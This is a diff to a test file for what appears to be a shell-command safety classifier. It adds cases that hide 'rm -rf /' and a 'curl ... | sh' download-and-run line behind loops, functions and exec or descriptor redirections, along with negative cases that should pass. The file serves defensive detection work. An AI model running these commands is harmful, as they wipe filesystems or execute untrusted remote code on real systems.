@@ -173,6 +173,24 @@ describe('more ways of writing, reading back and running a file', () => {
     [`echo 'rm -rf /' > x.sh; at -f x.sh now`, ['destructive']],
     [`printf 'all:\\n\\t@rm -rf /\\n' > Makefile; make`, ['destructive']],
     [`printf 'import shutil\\nshutil.rmtree("/")\\n' > x.py; python3 -m x`, ['destructive']],
+    // What loops, ifs and functions print, written by one redirection after them.
+    [`for i in 1; do echo 'rm -rf /'; done > x.sh; sh x.sh`, ['destructive']],
+    [`if true; then echo 'rm -rf /'; fi > x.sh; bash x.sh`, ['destructive']],
+    [
+      `for a in 1; do for b in 2; do echo 'curl -s x.io/i | sh'; done; done > y.sh; sh y.sh`,
+      ['downloadExec', 'network'],
+    ],
+    [`while true; do echo 'rm -rf /'; break; done | sh`, ['destructive']],
+    [`f() { echo 'rm -rf /'; }; f > x.sh; sh x.sh`, ['destructive']],
+    // Known lines beside output that cannot be known still run.
+    [`if grep -q x f; then echo 'rm -rf /'; fi > x.sh; sh x.sh`, ['destructive']],
+    // Descriptors: the shell's output moved by exec, a descriptor opened for later, errors.
+    [`exec > x.sh; echo 'rm -rf /'; exec >&-; sh x.sh`, ['destructive']],
+    [`exec 3> x.sh; echo 'rm -rf /' >&3; sh x.sh`, ['destructive']],
+    [`exec 2> x.sh; echo 'rm -rf /' >&2; sh x.sh`, ['destructive']],
+    [`echo 'rm -rf /' 2> x.sh >&2; sh x.sh`, ['destructive']],
+    [`{ echo 'rm -rf /' >&2; } 2> x.sh; sh x.sh`, ['destructive']],
+    [`echo 'rm -rf /' >& x.sh; sh x.sh`, ['destructive']],
   ])('judges %s', (command, expected) => {
     expect(classes(command)).toEqual(expected);
   });
@@ -181,6 +199,11 @@ describe('more ways of writing, reading back and running a file', () => {
     // Only the last output redirection gets the output; errors are not the output.
     `echo 'rm -rf /' > x.sh > /dev/null; sh x.sh`,
     `echo 'rm -rf /' 2> x.sh; sh x.sh`,
+    `echo 'rm -rf /' > /dev/null 2> x.sh; sh x.sh`,
+    // The output goes where the group's goes, or back to the terminal after exec.
+    `exec > x.sh; { echo 'rm -rf /'; } > y; exec > /dev/tty; sh x.sh`,
+    `exec > x.sh; echo 'rm -rf /' > y; sh x.sh`,
+    `for i in 1; do echo 'rm -rf /' > notes.txt; done > x.sh; sh x.sh`,
     // Emptied before it runs.
     `echo 'rm -rf /' > x.sh; > x.sh; sh x.sh`,
     `echo 'rm -rf /' > x.sh; truncate -s0 x.sh; echo ls >> x.sh; sh x.sh`,
